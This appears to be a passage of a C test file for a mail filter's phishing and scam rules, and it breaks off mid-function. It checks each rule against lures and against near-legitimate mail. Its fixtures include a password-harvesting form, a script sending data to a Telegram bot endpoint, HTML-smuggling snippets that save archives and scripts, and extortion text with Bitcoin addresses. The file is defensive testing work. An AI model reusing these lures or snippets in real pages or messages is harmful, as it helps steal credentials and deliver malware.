/*
 * check_lure.c - the content rules on today's lures: link hosts dressed
 * as a brand or spelt like one (brand.c), domains inside host names and
 * free page hosts (content_link.c), attached web pages and SVG images
 * that ask for a password or send the reader elsewhere (mime_page.c),
 * phishing wording read with where the links go, a brand's name in the
 * From beside other words, advance-fee wording against a solicitor's
 * and a raffle's, and the scams of content_scam.c (extortion, trading
 * platforms, business e-mail compromise, pharmacy, casino). Each rule
 * is shown firing on the lure and not on the legitimate mail most like
 * it.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#include "brand.h"
#include "buf.h"
#include "check_content.h"
#include "check_suites.h"
#include "check_util.h"
#include "fsutil.h"
#include "mime.h"
#include "punycode.h"
#include "xmalloc.h"

/* ------------------------------------------------------- brand hosts */

enum { NONE, BRAND, ALIKE };

static const struct {
	const char *host;
	int expect;
} host_cases[] = {
	{ "login-microsoftonline.com.auth-verify365.example", BRAND },
	{ "acme-my.sharepoint.com.dl-viewer.example", BRAND },
	{ "docusign-envelope.secure-docs-review.example", BRAND },
	{ "sparkasse-kundenservice.de-sicherheitsupdate.example", BRAND },
	{ "appleid-apple-com.sicherheit-check.example", BRAND },
	{ "www.facebookgroups.example", BRAND },
	{ "account.rnicrosoft-security.example", ALIKE },
	{ "paypa1-resolution-center.example", ALIKE },
	{ "www.micros0ft-support.example", ALIKE },
	{ "docusing.example", ALIKE },
	{ "linkedln.example", ALIKE },
	/* the brands' own */
	{ "www.paypal.com", NONE },
	{ "paypal.de", NONE },
	{ "www.amazon.co.uk", NONE },
	{ "acme-my.sharepoint.com", NONE },
	{ "teams.microsoft.com", NONE },
	{ "eur03.safelinks.protection.outlook.com", NONE },
	{ "sparkasse-koelnbonn.de", NONE },
	{ "www.sparkassen-finanzportal.de", NONE },
	{ "dl.dropboxusercontent.com", NONE },
	{ "www.microsoft365.com", NONE },
	{ "scontent.cdninstagram.com", NONE },
	/* words that are not the brands */
	{ "outlook.4team.example", NONE },
	{ "applecore.lockergnome.example", NONE },
	{ "www.apple-pie-bakery.example", NONE },
	{ "www.amazonia-tours.example", NONE },
	{ "www.paperchase.example", NONE },
	{ "www.citi.umich.edu", NONE },
	{ "sparkassen.example", NONE },
	{ "www.docu-signing.example", NONE },
	{ "www.barclay-hotel.example", NONE },
	{ "www.norton-motorcycles.example", NONE },
	{ "finanzamt.bayern.de", NONE },
	{ "micosoft-login.example", ALIKE },
};

START_TEST(test_brand_in_host)
{
	int alike = -1;
	const struct brand *b = brand_in_host(host_cases[_i].host, &alike);
	int got = b == NULL ? NONE : alike ? ALIKE : BRAND;

	ck_assert_msg(got == host_cases[_i].expect, "%s: got %d, want %d",
	    host_cases[_i].host, got, host_cases[_i].expect);
}
END_TEST

/* ------------------------------------------------------ attached pages */

static const struct {
	const char *name, *type, *content;
	unsigned expect;
} page_cases[] = {
	{ "Remittance.html", "text/html", "<form action=\"https://x.example/"
	    "p\"><input type=\"password\" name=\"p\"></form>",
	    MIME_PAGE | MIME_PAGE_PASSWORD },
	{ "x.HTM", "application/octet-stream", "<form ACTION = 'https://x."
	    "example/'><INPUT TYPE = 'Password'>",
	    MIME_PAGE | MIME_PAGE_PASSWORD },
	{ "", "text/html", "<input type=password><script>fetch('https://api."
	    "telegram.org/bot1/send')</script>",
	    MIME_PAGE | MIME_PAGE_PASSWORD },
	/* a web developer's template posts to its own site */
	{ "login.html", "text/html", "<form action=\"/login\" method=\"post\">"
	    "<input type=\"password\" name=\"pw\"></form>", MIME_PAGE },
	{ "VM.svg", "application/octet-stream", "<svg><script>var a=1;"
	    "</script></svg>", MIME_PAGE | MIME_PAGE_REDIRECT },
	{ "a.bin", "image/svg+xml", "<svg onload =\"go()\"></svg>",
	    MIME_PAGE | MIME_PAGE_REDIRECT },
	{ "logo.svg", "image/svg+xml", "<svg><title>Logo</title><path d=\"M0 "
	    "0h4v4H0z\"/><text>one online</text></svg>", MIME_PAGE },
	{ "go.html", "text/html", "<meta http-equiv=\"refresh\" content=\"0;"
	    "url=https://x.example/\">", MIME_PAGE | MIME_PAGE_REDIRECT },
	{ "go.html", "text/html", "<script>window.location=atob('aHR0cA==')"
	    "</script>", MIME_PAGE | MIME_PAGE_REDIRECT },
	{ "go.html", "text/html", "<script>document.write(unescape('%3C'))"
	    "</script>", MIME_PAGE | MIME_PAGE_REDIRECT },
	/* a report's script that navigates without hiding where */
	{ "report.html", "text/html", "<script>function top(){location.hash="
	    "'#top';}</script><p>Your password policy: 12 characters</p>",
	    MIME_PAGE },
	/* HTML smuggling: a file made in the browser, saved as a program
	 * or archive; the first name after "download" decides */
	{ "Invoice.html", "text/html", "<script>var b=new Blob([x]);var a="
	    "document.createElement('a');a.href=URL.createObjectURL(b);"
	    "a.download = 'Invoice_' + n + '.zip';a.click()</script>",
	    MIME_PAGE | MIME_PAGE_SMUGGLE },
	{ "Scan.htm", "text/html", "<script>var b=new Blob([x]);navigator."
	    "msSaveOrOpenBlob(b, `Scan.ISO`)</script>",
	    MIME_PAGE | MIME_PAGE_SMUGGLE },
	{ "fax.svg", "image/svg+xml", "<svg><script>a.setAttribute("
	    "\"download\", \"fax.pdf.js\");a.href=URL.createObjectURL(new "
	    "Blob([d]))</script></svg>",
	    MIME_PAGE | MIME_PAGE_REDIRECT | MIME_PAGE_SMUGGLE },
	{ "report.html", "text/html", "<script>var b=new Blob([csv]);a.href="
	    "URL.createObjectURL(b);a.download='report.csv';var l="
	    "'jquery.min.js';</script>", MIME_PAGE },
	/* a program's name, but no file made in the browser */
	{ "links.html", "text/html", "<a href=\"setup.exe\" download=\""
	    "setup.exe\">get it</a>", MIME_PAGE },
	{ "report.pdf", "application/pdf", "<input type=\"password\">", 0 },
	{ "notes.txt", "text/plain", "<script>location=atob('x')</script>",
	    0 },
};

START_TEST(test_page_examine)
{
	unsigned got = mime_page_examine(page_cases[_i].name,
	    page_cases[_i].type, (const unsigned char *)page_cases[_i].content,
	    strlen(page_cases[_i].content));

	ck_assert_msg(got == page_cases[_i].expect, "%s: bits %#x, want %#x",
	    page_cases[_i].name, got, page_cases[_i].expect);
}
END_TEST

/* a saved report carries whole script libraries: a decoding script
 * counts only in a small page */
START_TEST(test_page_big_report)
{
	size_t n = MIME_PAGE_SMALL + 1024;
	char *page = xmalloc(n + 1);
	const char *head = "<script>var u=atob('aHR0cA==');window.location=u;";

	memset(page, ' ', n);
	memcpy(page, head, strlen(head));
	memcpy(page + n - 9, "</script>", 9);
	page[n] = '\0';
	ck_assert_uint_eq(mime_page_examine("report.html", "text/html",
	    (const unsigned char *)page, n), MIME_PAGE);
	ck_assert_uint_eq(mime_page_examine("report.html", "text/html",
	    (const unsigned char *)page, 4096), MIME_PAGE | MIME_PAGE_REDIRECT);
	free(page);
}
END_TEST

/* ---------------------------------------------------------- Punycode */

/* RFC 3492's sample strings, and what is not Punycode */
START_TEST(test_punycode)
{
	uint32_t cp[64];
	size_t n;

	ck_assert_int_eq(punycode_decode("mller-kva", 9, cp, 64, &n), 0);
	ck_assert_uint_eq(n, 6);
	ck_assert_uint_eq(cp[0], 'm');
	ck_assert_uint_eq(cp[1], 0xfc);
	ck_assert_uint_eq(cp[5], 'r');
	/* RFC 3492 7.1 (L), Japanese */
	ck_assert_int_eq(punycode_decode("3B-ww4c5e180e575a65lsy2b", 24, cp, 64,
	    &n), 0);
	ck_assert_uint_eq(n, 8);
	ck_assert_uint_eq(cp[0], '3');
	ck_assert_uint_eq(cp[1], 0x5e74);
	ck_assert_uint_eq(cp[2], 'B');
	ck_assert_uint_eq(cp[7], 0x751f);
	ck_assert_int_eq(punycode_decode("80ak6aa92e", 10, cp, 64, &n), 0);
	ck_assert_uint_eq(n, 5);
	ck_assert_uint_eq(cp[0], 0x0430);
	ck_assert_uint_eq(cp[3], 0x04cf);
	/* a digit out of range, too long an output, a cut string */
	ck_assert_int_eq(punycode_decode("ab!c", 4, cp, 64, &n), -1);
	ck_assert_int_eq(punycode_decode("3B-ww4c5e180e575a65lsy2b", 24, cp, 4,
	    &n), -1);
	ck_assert_int_eq(punycode_decode("mller-kv9", 9, cp, 64, &n), -1);
	ck_assert_int_eq(punycode_decode("9", 1, cp, 64, &n), -1);
}
END_TEST

/* ------------------------------------------------------ RAR archives */

/* rar4 - a RAR 4 archive of one member, name, into out: its length */
static size_t
rar4(const char *name, unsigned file_flags, unsigned char *out)
{
	static const unsigned char head[] = { 'R', 'a', 'r', '!', 0x1a, 0x07,
		0x00, 0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0 };
	size_t n = strlen(name), o = sizeof(head), hsize = 32 + n;

	memcpy(out, head, o);
	memset(out + o, 0, 32);
	out[o + 2] = 0x74;
	out[o + 3] = (unsigned char)(file_flags & 0xff);
	out[o + 4] = (unsigned char)((file_flags | 0x8000) >> 8);
	out[o + 5] = (unsigned char)hsize;
	out[o + 7] = 3;			/* packed size */
	out[o + 26] = (unsigned char)n;	/* name size */
	memcpy(out + o + 32, name, n);
	o += hsize;
	memcpy(out + o, "abc", 3);	/* the packed data */
	o += 3;
	memcpy(out + o, "\0\0\x7b\0\x40\x07\0", 7);
	return o + 7;
}

/* rar5 - a RAR 5 archive of one member (crypt: its data encrypted) */
static size_t
rar5(const char *name, int crypt, unsigned char *out)
{
	static const unsigned char sig[] = { 'R', 'a', 'r', '!', 0x1a, 0x07,
		0x01, 0x00 };
	size_t n = strlen(name), o = 0, h;

	memcpy(out, sig, sizeof(sig));
	o = sizeof(sig);
	memcpy(out + o, "\0\0\0\0\x03\x01\x00\x00", 8); /* main */
	o += 8;
	memset(out + o, 0, 4);		/* CRC32 */
	o += 4;
	h = o++;			/* header size, below */
	out[o++] = 2;			/* file */
	out[o++] = crypt ? 3 : 2;	/* extra area, data */
	if (crypt)
		out[o++] = 3;		/* extra area size */
	out[o++] = 3;			/* data size */
	out[o++] = 0;			/* file flags */
	out[o++] = 3;			/* unpacked size */
	out[o++] = 0;			/* attributes */
	out[o++] = 0;			/* compression */
	out[o++] = 0;			/* host OS */
	out[o++] = (unsigned char)n;
	memcpy(out + o, name, n);
	o += n;
	if (crypt) {
		out[o++] = 2;		/* record size */
		out[o++] = 1;		/* encryption */
		out[o++] = 0;
	}
	out[h] = (unsigned char)(o - h - 1);
	memcpy(out + o, "abc", 3);
	return o + 3;
}

/* rar_reads - the archive in buf names one member, name, and is or is
 * not encrypted */
static void
rar_reads(const unsigned char *buf, size_t n, const char *name, int enc)
{
	struct mime_attachment a;

	memset(&a, 0, sizeof(a));
	ck_assert_int_eq(mime_rar_names(buf, n, &a), 0);
	ck_assert_uint_eq(a.ninner, 1);
	ck_assert_str_eq(a.inner[0], name);
	ck_assert_int_eq(a.encrypted, enc);
	free(a.inner[0]);
	free(a.inner);
}

START_TEST(test_rar_names)
{
	unsigned char buf[256];
	struct mime_attachment a;

	rar_reads(buf, rar4("Zahlungsavis.pdf.exe", 0, buf),
	    "Zahlungsavis.pdf.exe", 0);
	rar_reads(buf, rar4("secret.doc", 0x0004, buf), "secret.doc", 1);
	rar_reads(buf, rar5("SWIFT_Copy.pdf.exe", 0, buf),
	    "SWIFT_Copy.pdf.exe", 0);
	rar_reads(buf, rar5("invoice.js", 1, buf), "invoice.js", 1);

	/* headers encrypted: no names, encrypted */
	memset(&a, 0, sizeof(a));
	memcpy(buf, "Rar!\x1a\x07\x01\x00\0\0\0\0\x02\x04\x00", 15);
	ck_assert_int_eq(mime_rar_names(buf, 15, &a), 0);
	ck_assert_uint_eq(a.ninner, 0);
	ck_assert_int_eq(a.encrypted, 1);

	/* not a RAR */
	ck_assert_int_eq(mime_rar_names((const unsigned char *)"PK\3\4", 4,
	    &a), -1);
}
END_TEST

/* read_archive - t/data/archive/name, whole */
static char *
read_archive(const char *name, size_t *len_r)
{
	return ck_data("archive", name, len_r);
}

static void
attachment_free(struct mime_attachment *a)
{
	size_t i;

	for (i = 0; i < a->ninner; i++)
		free(a->inner[i]);
	free(a->inner);
	memset(a, 0, sizeof(*a));
}

static const struct {
	const char *file;
	const char *first, *second;	/* names read, NULL: none */
	int encrypted;
} sevenzip_cases[] = {
	/* 7-Zip's defaults: the header itself LZMA-coded */
	{ "lzma2.7z", "Rechnung/Invoice_0412.pdf.exe", "Rechnung/readme.txt",
	    0 },
	{ "lzma1.7z", "Rechnung/Invoice_0412.pdf.exe", "Rechnung/readme.txt",
	    0 },
	{ "plain-header.7z", "Rechnung/Invoice_0412.pdf.exe",
	    "Rechnung/readme.txt", 0 },
	{ "ppmd.7z", "Rechnung/Invoice_0412.pdf.exe", "Rechnung/readme.txt",
	    0 },
	/* a folder of four coders and three bind pairs */
	{ "bcj2.7z", "Rechnung/Invoice_0412.pdf.exe", "Rechnung/readme.txt",
	    0 },
	{ "copy.7z", "Rechnung/Invoice_0412.pdf.exe", "Rechnung/readme.txt",
	    0 },
	{ "encrypted.7z", "Rechnung/Invoice_0412.pdf.exe",
	    "Rechnung/readme.txt", 1 },
	{ "encrypted-header.7z", NULL, NULL, 1 },
	{ "unicode.7z", "Rechnung/Belege",
	    "Rechnung/Belege/\xd1\x81\xd1\x87\xd1\x91\xd1\x82 "
	    "\xf0\x9f\x98\x80.pdf.scr", 0 },
};

/* the names of a 7-Zip archive as 7zz writes it, whatever the coders,
 * and whether its members or its names are encrypted */
START_TEST(test_7z_names)
{
	struct mime_attachment a;
	size_t len;
	char *data = read_archive(sevenzip_cases[_i].file, &len);

	memset(&a, 0, sizeof(a));
	ck_assert_int_eq(mime_7z_names((unsigned char *)data, len, &a), 0);
	ck_assert_int_eq(a.encrypted, sevenzip_cases[_i].encrypted);
	if (sevenzip_cases[_i].first == NULL) {
		ck_assert_uint_eq(a.ninner, 0);
	} else {
		ck_assert_uint_eq(a.ninner, 2);
		ck_assert_str_eq(a.inner[0], sevenzip_cases[_i].first);
		ck_assert_str_eq(a.inner[1], sevenzip_cases[_i].second);
	}
	attachment_free(&a);
	free(data);
	ck_assert_int_eq(mime_7z_names((const unsigned char *)"Rar!\x1a\x07"
	    "\x01\x00", 8, &a), -1);
}
END_TEST

/* every cut of a 7z archive, and every byte of its header flipped, reads
 * what fits and nothing past it (run under AddressSanitizer) */
START_TEST(test_7z_damaged)
{
	static const char *files[] = { "lzma2.7z", "plain-header.7z",
	    "bcj2.7z", "encrypted.7z" };
	size_t f, len, k;

	for (f = 0; f < sizeof(files) / sizeof(files[0]); f++) {
		char *data = read_archive(files[f], &len);

		for (k = 0; k <= len; k++) {
			struct mime_attachment a;
			unsigned char *cut = xmalloc(k > 0 ? k : 1);

			memset(&a, 0, sizeof(a));
			memcpy(cut, data, k);
			(void)mime_7z_names(cut, k, &a);
			attachment_free(&a);
			free(cut);
		}
		for (k = 32; k < len; k++) {
			struct mime_attachment a;
			unsigned char *bad = xmalloc(len);

			memset(&a, 0, sizeof(a));
			memcpy(bad, data, len);
			bad[k] ^= 0xff;
			(void)mime_7z_names(bad, len, &a);
			attachment_free(&a);
			free(bad);
		}
		free(data);
	}
}
END_TEST

/* every cut of an archive reads what fits and nothing past it (run
 * under AddressSanitizer) */
START_TEST(test_rar_truncated)
{
	unsigned char buf[256], *cut;
	size_t n, k, i;

	for (i = 0; i < 2; i++) {
		n = i == 0 ? rar4("a.exe", 0, buf) : rar5("a.exe", 1, buf);
		for (k = 0; k <= n; k++) {
			struct mime_attachment a;

			memset(&a, 0, sizeof(a));
			cut = xmalloc(k > 0 ? k : 1);
			memcpy(cut, buf, k);
			(void)mime_rar_names(cut, k, &a);
			ck_assert_uint_le(a.ninner, 1);
			if (a.ninner == 1) {
				ck_assert_str_eq(a.inner[0], "a.exe");
				free(a.inner[0]);
			}
			free(a.inner);
			free(cut);
		}
	}
}
END_TEST

/* -------------------------------------------------------- messages */

/* score_mail - the content score of a message From from (NULL: Alice
 * <alice@shop.example>), with Reply-To reply_to (NULL: none), Subject
 * subject and one body part of type ("plain" or "html") */
static void
score_mail(const char *from, const char *reply_to, const char *subject,
    const char *type, const char *body, struct content_score *cs)
{
	char *rt = reply_to != NULL ? xasprintf("Reply-To: %s\r\n", reply_to) :
	    xstrdup("");
	char *m = xasprintf("From: %s\r\n%sTo: bob@example.org\r\n"
	    "Subject: %s\r\nDate: Mon, 2 Mar 2026 09:12:00 +0100\r\n"
	    "Message-ID: <lure@shop.example>\r\nMIME-Version: 1.0\r\n"
	    "Content-Type: text/%s; charset=utf-8\r\n\r\n%s\r\n",
	    from != NULL ? from : "Alice <alice@shop.example>", rt, subject,
	    type, body);

	content_score_message(m, strlen(m), NULL, cs);
	free(m);
	free(rt);
}

static const struct {
	const char *what;
	const char *from, *reply_to, *type, *body;
	enum content_rule_id rule;
	int fires;
} mail_cases[] = {
	/* phishing wording, read with the links */
	{ "a shop's own activation mail", NULL, NULL, "html",
	    "<p>Please verify your account within 24 hours: <a href=\"https:"
	    "//www.shop.example/activate/7f3a\">activate</a></p>",
	    R_PHISH, 0 },
	{ "the same wording, the link elsewhere", NULL, NULL, "html",
	    "<p>Please verify your account within 24 hours: <a href=\"https:"
	    "//login.other.example/a\">activate</a></p>", R_PHISH, 1 },
	{ "the same wording, no link (replies wanted)", NULL, NULL, "plain",
	    "Please verify your account by replying with your login.",
	    R_PHISH, 1 },
	{ "the wording, the link to a free page host", NULL, NULL, "html",
	    "<p>Your mailbox is full. <a href=\"https://pub-7f3a.r2.dev/owa/"
	    "\">Release messages</a></p>", R_PHISH_LINK, 1 },
	{ "the wording, the link to another business", NULL, NULL, "html",
	    "<p>Your mailbox is full. <a href=\"https://www.other.example/"
	    "\">Release messages</a></p>", R_PHISH_LINK, 0 },
	{ "German phishing wording", NULL, NULL, "plain",
	    "Ihr Konto wurde vorübergehend eingeschränkt. Bestätigen Sie Ihre "
	    "Daten: https://login.other.example/", R_PHISH, 1 },
	{ "a parcel lure", NULL, NULL, "plain",
	    "Your package is on hold: a customs fee of 1.99 EUR is due. "
	    "https://bit.ly/3xYz", R_PHISH_LINK, 1 },
	/* link hosts */
	{ "a domain inside a host", NULL, NULL, "plain",
	    "See https://files.com.viewer-online.example/d", R_URL_DOMAIN_INSIDE,
	    1 },
	/* аррӏе.com: Cyrillic letters that look Latin */
	{ "a Cyrillic look-alike host", NULL, NULL, "plain",
	    "https://xn--80ak6aa92e.com/id", R_URL_IDN_SPOOF, 1 },
	/* pаypal.com: a Cyrillic a among Latin letters */
	{ "a host of mixed scripts", NULL, NULL, "plain",
	    "https://www.xn--pypal-4ve.com/signin", R_URL_IDN_SPOOF, 1 },
	/* müller.de and пример.рф: one script each */
	{ "a German name with an umlaut", NULL, NULL, "plain",
	    "https://www.xn--mller-kva.de/", R_URL_IDN_SPOOF, 0 },
	{ "a Russian name", NULL, NULL, "plain",
	    "https://xn--e1afmkfd.xn--p1ai/", R_URL_IDN_SPOOF, 0 },
	{ "a bucket named for its owner's domain", NULL, NULL, "plain",
	    "https://files.shop.com.s3.eu-west-1.amazonaws.com/brochure.pdf",
	    R_URL_DOMAIN_INSIDE, 0 },
	{ "a host that begins with such a word", NULL, NULL, "plain",
	    "News: https://biz.yahoo.example/story", R_URL_DOMAIN_INSIDE, 0 },
	{ "a brand on another domain", NULL, NULL, "plain",
	    "https://docusign-envelope.review.example/s", R_URL_BRAND_HOST, 1 },
	{ "a brand's look-alike", NULL, NULL, "plain",
	    "https://account.rnicrosoft-security.example/", R_URL_LOOKALIKE, 1 },
	/* www.dhl.de is DHL's: a short name under a country code is a name
	 * (the Public Suffix List), not a suffix like co.uk */
	{ "a shop's tracking link to the carrier's national site",
	    "Shop <service@outdoor.example>", NULL, "plain",
	    "Ihr Paket konnte nicht zugestellt werden: https://www.dhl.de/de/"
	    "privatkunden/verfolgen.html?piececode=0034", R_URL_BRAND_HOST, 0 },
	{ "the same, then no phishing link either",
	    "Shop <service@outdoor.example>", NULL, "plain",
	    "Ihr Paket konnte nicht zugestellt werden: https://www.dpd.at/"
	    "tracking?p=0034", R_PHISH_LINK, 0 },
	{ "a business named like a brand links its own site",
	    "Shop <info@paypal-fans.example>", NULL, "plain",
	    "https://www.paypal-fans.example/", R_URL_BRAND_HOST, 0 },
	{ "a free page host", NULL, NULL, "plain",
	    "https://acme-invoice.pages.dev/", R_URL_FREE_HOST, 1 },
	{ "the sender's own preview site on a page host",
	    "Team <noreply@mysaas.example>", NULL, "html", "<p>Please verify "
	    "your email within 24 hours: <a href=\"https://mysaas-app.vercel."
	    "app/verify/7f3a\">verify</a></p>", R_PHISH, 0 },
	{ "a Google form", NULL, NULL, "plain",
	    "https://docs.google.com/forms/d/e/1FAIpQL/viewform",
	    R_URL_FREE_HOST, 1 },
	{ "a Google document", NULL, NULL, "plain",
	    "https://docs.google.com/document/d/1abc/edit", R_URL_FREE_HOST,
	    0 },
	{ "a domain before an '@'", NULL, NULL, "plain",
	    "https://www.paypal.com@login.other.example/", R_URL_USERINFO, 1 },
	{ "a user and password before an '@'", NULL, NULL, "plain",
	    "ftp://user:pw@ftp.other.example/", R_URL_USERINFO, 0 },
	{ "a page in a bucket", NULL, NULL, "plain",
	    "https://pub-7f3a.r2.dev/Invoice.html", R_URL_BUCKET_PAGE, 1 },
	{ "a page in an S3 bucket", NULL, NULL, "plain",
	    "https://files.s3.eu-west-1.amazonaws.com/x/login.html",
	    R_URL_BUCKET_PAGE, 1 },
	{ "a page on IPFS", NULL, NULL, "plain",
	    "https://gw.other.example/ipfs/bafybeic/view.html",
	    R_URL_BUCKET_PAGE, 1 },
	{ "a brochure in a bucket", NULL, NULL, "plain",
	    "https://storage.googleapis.com/shop-files/brochure.pdf",
	    R_URL_BUCKET_PAGE, 0 },
	{ "a program on another site", NULL, NULL, "plain",
	    "https://dl.other.example/files/setup.exe?v=2", R_LINK_PROGRAM, 1 },
	{ "a program on the sender's own site", NULL, NULL, "plain",
	    "https://www.shop.example/tools/setup.exe", R_LINK_PROGRAM, 0 },
	{ "an archive in another site's WordPress uploads", NULL, NULL,
	    "plain", "https://garden.example/wp-content/uploads/2026/03/"
	    "Belege.zip", R_LINK_WP_UPLOAD, 1 },
	{ "a flyer in another site's WordPress uploads", NULL, NULL, "plain",
	    "https://garden.example/wp-content/uploads/2026/03/flyer.pdf",
	    R_LINK_WP_UPLOAD, 0 },
	{ "an archive linked, its password given", NULL, NULL, "plain",
	    "The documents: https://files.other.example/Belege.zip "
	    "Passwort: 2025", R_ARCHIVE_PASSWORD, 1 },
	{ "a password without an archive", NULL, NULL, "plain",
	    "Your gallery: https://photos.other.example/anna Password: "
	    "wedding26", R_ARCHIVE_PASSWORD, 0 },
	/* a brand's name in the From */
	{ "the brand alone", "Microsoft 365 <it@shop.example>", NULL, "plain",
	    "Hello.", R_BRAND, 1 },
	{ "the brand and service words",
	    "Chase Online Banking <it@shop.example>", NULL, "plain", "Hello.",
	    R_BRAND, 1 },
	{ "the brand's products", "Microsoft Office <it@shop.example>", NULL,
	    "plain", "Hello.", R_BRAND, 1 },
	{ "someone via the brand", "Anna Berger via DocuSign <it@shop.example>",
	    NULL, "plain", "Hello.", R_BRAND, 1 },
	{ "a person named like a brand", "Chase Whitfield <chase@shop.example>",
	    NULL, "plain", "Hello.", R_BRAND, 0 },
	{ "a reseller", "MacWerk - Apple Authorised Reseller "
	    "<info@shop.example>", NULL, "plain", "Hello.", R_BRAND, 0 },
	{ "an IT firm's support desk",
	    "Pixelwerk IT - Microsoft 365 Support <it@shop.example>", NULL,
	    "plain", "Hello.", R_BRAND, 0 },
	{ "a brand in the From, a link to a free page host",
	    "PostNL <info@shop.example>", NULL, "plain",
	    "Pay the fee: https://postnl-bezorging.glitch.me/pay",
	    R_PHISH_LINK, 1 },
	{ "a brand in the From, a link elsewhere", "Correos <info@shop.example>",
	    NULL, "plain", "Pay the fee: https://pay.other.example/",
	    R_BRAND_LINK, 1 },
	{ "a brand in the From, links to the brand",
	    "Microsoft 365 <it@shop.example>", NULL, "plain",
	    "Sign in at https://portal.office.com/ as usual.", R_BRAND_LINK,
	    0 },
	{ "a brand's product in the From", "Outlook Web App "
	    "<it@shop.example>", NULL, "plain", "Hello.", R_BRAND, 1 },
	{ "an engineer's title", "Dipl.-Ing. Petra Elster <p@shop.example>",
	    NULL, "plain", "Hello.", R_BRAND, 0 },
	{ "a bank's name on a shop's address",
	    "PKO Bank Polski <info@ebike.example>", NULL, "plain", "Hello.",
	    R_FROM_INSTITUTION, 1 },
	{ "a bank on its own domain",
	    "Volksbank Mittelhessen <info@volksbank-mittelhessen.example>", NULL,
	    "plain", "Hello.", R_FROM_INSTITUTION, 0 },
	{ "a person named Post", "Anna Post <anna@shop.example>", NULL,
	    "plain", "Hello.", R_FROM_INSTITUTION, 0 },
	{ "a bank's name, a link to a page builder",
	    "Česká spořitelna - George <servis@garage.example>", NULL, "plain",
	    "https://george-overeni.godaddysites.com/", R_PHISH_LINK, 1 },
	{ "a form and a password", NULL, NULL, "plain", "Confirm your "
	    "e-mail and password: https://forms.gle/abc", R_FORM_PASSWORD, 1 },
	{ "a survey", NULL, NULL, "plain", "How did we do? "
	    "https://docs.google.com/forms/d/e/1FAI/viewform", R_FORM_PASSWORD,
	    0 },
	{ "a search engine's redirect", NULL, NULL, "plain",
	    "https://www.bing.com/ck/a?!&&p=39ea&u=a1aHR0cHM6Ly9t",
	    R_URL_REDIRECT, 1 },
	{ "replies to the domain with its country glued in",
	    "Stefan <stefan@alpenglow-outfitters.de>",
	    "stefan@alpenglow-outfitters-de.com", "plain", "Hello.",
	    R_REPLYTO_LOOKALIKE, 1 },
	{ "replies to a domain one letter off", "Marta <marta@mk-webdev.de>",
	    "marta@mk-webdevs.de", "plain", "Hello.", R_REPLYTO_LOOKALIKE, 1 },
	{ "replies to the business's other top-level domain",
	    "Shop <info@stromrad.de>", "service@stromrad.com", "plain",
	    "Hello.", R_REPLYTO_LOOKALIKE, 0 },
	{ "replies to a partner", "Shop <info@stromrad.de>",
	    "orders@bikeparts.example", "plain", "Hello.",
	    R_REPLYTO_LOOKALIKE, 0 },
	/* advance-fee wording */
	{ "a raffle", NULL, NULL, "plain", "You have won a voucher in our "
	    "lottery! Bring your ticket number to claim your prize.",
	    R_FRAUD, 0 },
	{ "a probate letter", NULL, NULL, "plain", "As next of kin of the "
	    "deceased you are a beneficiary of the inheritance.", R_FRAUD, 0 },
	{ "a 419 letter", NULL, NULL, "plain", "As next of kin you are the "
	    "beneficiary of the dormant account.", R_FRAUD, 1 },
	/* scams */
	{ "extortion with an address", NULL, NULL, "plain", "I am a hacker. "
	    "I recorded you on adult websites. Pay in Bitcoin to "
	    "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh or all your contacts "
	    "get the video.", R_EXTORTION, 1 },
	{ "extortion with a legacy address", NULL, NULL, "plain", "I recorded "
	    "you. Send 0.1 BTC to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 or I send "
	    "the video to all your contacts.", R_EXTORTION, 1 },
	{ "the same words, no address", NULL, NULL, "plain", "I am a hacker. "
	    "I recorded you on adult websites, all your contacts get it.",
	    R_EXTORTION, 0 },
	{ "an accountant on Bitcoin", NULL, NULL, "plain", "Your Bitcoin "
	    "wallet bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh received 0.2 "
	    "BTC; declare it with your taxes.", R_EXTORTION, 0 },
	{ "a trading platform", NULL, NULL, "plain", "This trading platform "
	    "changed my life: start with just 250 EUR.", R_INVEST_SCAM, 1 },
	{ "a fund's report", NULL, NULL, "plain", "Our investment platform "
	    "had a quiet quarter.", R_INVEST_SCAM, 0 },
	{ "gift cards, replies elsewhere", "Stefan <stefan@shop.example>",
	    "stefan.ceo@freemail.example", "plain", "Are you available? Buy "
	    "gift cards, scratch the back and send me the codes.",
	    R_BEC_REPLYTO, 1 },
	{ "gift cards, replies to the sender", "Stefan <stefan@shop.example>",
	    NULL, "plain", "Are you available? Buy gift cards, scratch the "
	    "back and send me the codes.", R_BEC_REPLYTO, 0 },
	{ "a shop's gift card", NULL, NULL, "plain", "Thank you for buying a "
	    "gift card. Your code: 4411-2211.", R_BEC, 0 },
	{ "pharmacy spam", NULL, NULL, "plain", "Viagra from 0.59 EUR per "
	    "pill, no prescription.", R_PHARMA, 1 },
	{ "a pharmacy's notice", NULL, NULL, "plain", "Your prescription for "
	    "Tramadol is ready to collect.", R_PHARMA, 0 },
	{ "casino spam", NULL, NULL, "html", "<h1>500% welcome bonus + 200 "
	    "free spins</h1>", R_CASINO, 1 },
	{ "a club's casino night", NULL, NULL, "plain", "Casino night at the "
	    "club: roulette and blackjack, the jackpot goes to charity.",
	    R_CASINO, 0 },
	{ "a login form in the mail", NULL, NULL, "html", "<form action="
	    "\"https://x.example/\"><input type=\"password\"></form>",
	    R_HTML_PASSWORD, 1 },
};

START_TEST(test_mail_rules)
{
	struct content_score cs;
	char rules[512];

	score_mail(mail_cases[_i].from != NULL ? mail_cases[_i].from : NULL,
	    mail_cases[_i].reply_to, "hello", mail_cases[_i].type,
	    mail_cases[_i].body, &cs);
	content_rules_text(&cs, ' ', rules, sizeof(rules));
	ck_assert_msg(cs.fired[mail_cases[_i].rule] == mail_cases[_i].fires,
	    "%s: %s %s (rules: %s)", mail_cases[_i].what,
	    content_rules[mail_cases[_i].rule].name, mail_cases[_i].fires ?
	    "did not fire" : "fired", rules);
}
END_TEST

/* a brand's name over a shop's own notice and a link to a tracking
 * service is a question, not a refusal: BRAND_SPOOF and
 * BRAND_SPOOF_LINK alone stay under the threshold */
START_TEST(test_brand_name_alone_under_threshold)
{
	struct content_score cs;

	score_mail("DHL Versand <shop@shop.example>", NULL, "Ihr Paket",
	    "plain", "Sendungsverfolgung: https://track.parcels.example/123",
	    &cs);
